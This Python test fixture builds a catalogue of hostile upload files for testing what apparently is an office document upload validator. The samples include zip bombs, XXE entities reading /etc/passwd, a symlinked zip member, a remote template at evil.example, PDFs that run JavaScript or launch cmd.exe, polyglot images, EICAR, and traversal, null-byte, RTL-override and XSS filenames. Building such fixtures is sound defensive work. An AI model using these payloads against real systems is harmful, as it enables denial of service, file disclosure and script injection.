"""Files made to do harm, one of each kind that an office meets: (what it is, its name, its bytes, may it be kept as a download)."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Mapping

from tests.samples import PNG

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
DOCUMENT = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
WORKBOOK = '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
RELATION = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" '
            'Target="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/></Relationships>')  # fmt: skip
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000")


def package(parts: Mapping[str, str | bytes]) -> bytes:
    """A zip of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def word(**parts: str | bytes) -> bytes:
    """A small Word document; in names of further parts ___ stands for a slash and __ for a dot."""
    more = {name.replace("___", "/").replace("__", "."): content for name, content in parts.items()}
    return package({"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT, **more})


def excel(**parts: str | bytes) -> bytes:
    """A small workbook."""
    more = {name.replace("___", "/").replace("__", "."): content for name, content in parts.items()}
    return package({"[Content_Types].xml": TYPES, "xl/workbook.xml": WORKBOOK, **more})


def linked_member() -> bytes:
    """A Word document one of whose members is a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", DOCUMENT)
        member = zipfile.ZipInfo("word/link.xml")
        member.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(member, "/etc/passwd")
    return out.getvalue()


def pdf(body: bytes = b"") -> bytes:
    """A small PDF."""
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def packed_script() -> bytes:
    """A PDF whose script stands in a compressed object stream."""
    packed = zlib.compress(b"2 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    head = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d" % len(packed)
    return pdf(b">>\nendobj\n3 0 obj\n<< " + head + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n4 0 obj\n<<")


def huge_picture() -> bytes:
    """A PNG of some bytes that says it has 60000 times 60000 points."""
    head = b"IHDR" + struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return PNG[:8] + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head)) + PNG[33:]


BOMB = word(word___media___a__xml=b"\0" * 30_000_000)
MACRO = word(word___vbaProject__bin=b"\xd0\xcf\x11\xe0macro")
MACRO_TYPES = TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
HOSTILE: tuple[tuple[str, str, bytes, bool], ...] = (
    ("zip bomb in Word", "方案.docx", BOMB, False),
    ("zip bomb in a workbook", "台账.xlsx", excel(xl___a__xml=b" " * 30_000_000), False),
    ("SVG with a script", "图.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', False),
    ("SVG called PNG", "图.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', False),
    ("double extension", "通知.pdf.exe", pdf(), False),
    ("picture that is a page", "照片.jpg.html", JPEG, False),
    ("HTML called JPG", "照片.jpg", b"<html><script>alert(1)</script></html>", False),
    ("empty", "空.pdf", b"", False),
    ("program called PDF", "通知.pdf", b"MZ\x90\x00" + b"\0" * 100, False),
    ("EICAR called PDF", "病毒.pdf", EICAR, False),
    ("EICAR", "eicar.com", EICAR, False),
    ("macro in a renamed docm", "方案.docx", MACRO, False),
    ("macro by content type", "方案.docx", package({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": DOCUMENT}), False),
    ("macro in a renamed xlsm", "台账.xlsx", excel(xl___vbaProject__bin=b"\xd0\xcf\x11\xe0macro"), False),
    ("docm", "方案.docm", MACRO, False),
    ("external entity in Word", "方案.docx", word(word___styles__xml=EXTERNAL), False),
    ("external entity in a workbook", "台账.xlsx", excel(xl___styles__xml=EXTERNAL), False),
    ("external entity in UTF-16", "台账.xlsx", excel(xl___styles__xml=EXTERNAL.encode("utf-16")), False),
    ("template from elsewhere", "方案.docx", word(word____rels___settings__xml__rels=RELATION.format("http://evil.example/a.dotm", "attachedTemplate")), False),
    ("zip in Word", "方案.docx", word(word___a__zip=package({"a": "b"})), False),
    ("program in Word", "方案.docx", word(word___embeddings___a__exe=b"MZ"), False),
    ("object of another program", "方案.docx", word(word___embeddings___o__bin=b"\xd0\xcf\x11\xe0" + "\x01Ole10Native".encode("utf-16-le")), False),
    ("path upward in Word", "方案.docx", package({"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT, "../../x.xml": "x"}), False),
    ("symbolic link in Word", "方案.docx", linked_member(), False),
    ("plain zip called Word", "方案.docx", package({"a.txt": "x"}), False),
    ("plain zip", "材料.zip", package({"a.txt": "x"}), False),
    ("half a workbook", "台账.xlsx", excel()[:200], False),
    ("PDF with a script", "通知.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), False),
    ("PDF with a disguised script", "通知.pdf", pdf(b"/OpenAction << /S /J#61vaScript /JS (x) >>"), False),
    ("PDF that starts a program", "通知.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), False),
    ("PDF with a compressed script", "通知.pdf", packed_script(), False),
    ("picture of 3600 million points", "图.png", huge_picture(), False),
    ("broken PNG", "图.png", PNG[:40] + b"\xff" * 20, False),
    ("GIF and script at once", "图.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", False),
    ("GIF and script called PNG", "图.png", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", False),
    ("PDF and HTML at once", "通知.pdf", pdf() + b"<html><script>alert(1)</script></html>", True),
    ("PNG with HTML behind it", "图.png", PNG + b"<script>alert(1)</script>", True),
    ("path upward", "../../../etc/佐证.png", PNG, True),
    ("path of Windows", "C:\\Windows\\佐证.png", PNG, True),
    ("zero byte in the name", "佐证\x00.html.png", PNG, True),
    ("three hundred characters", "整" * 300 + ".png", PNG, True),
    ("letters that run backwards", "佐证\u202egnp.exe.png", PNG, True),
    ("a name that is a formula", "=HYPERLINK(0).png", PNG, True),
    ("a name that is a tag", "<img src=x onerror=alert(1)>.png", PNG, True),
)  # fmt: skip
